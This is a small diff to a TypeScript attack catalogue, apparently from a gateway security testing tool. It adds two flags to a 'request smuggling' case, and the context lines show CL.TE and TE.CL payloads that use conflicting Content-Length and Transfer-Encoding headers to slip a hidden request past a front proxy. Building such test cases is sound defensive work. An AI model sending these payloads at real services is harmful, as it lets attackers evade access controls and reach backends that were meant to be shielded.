@@ -10,6 +10,8 @@ const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`
 export const smuggling: Attack = {
   name: 'request smuggling',
   goal: 'makes the service read a request that the door has never judged',
+  anywhere: true,
+  looksBehind: true,
   cases: [
     way('CL.TE', `Content-Length: ${HIDDEN.length + 5}\r\nTransfer-Encoding: chunked\r\n`, `0\r\n\r\n${HIDDEN}`),
     way('TE.CL', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `${chunk(HIDDEN)}0\r\n\r\n`),
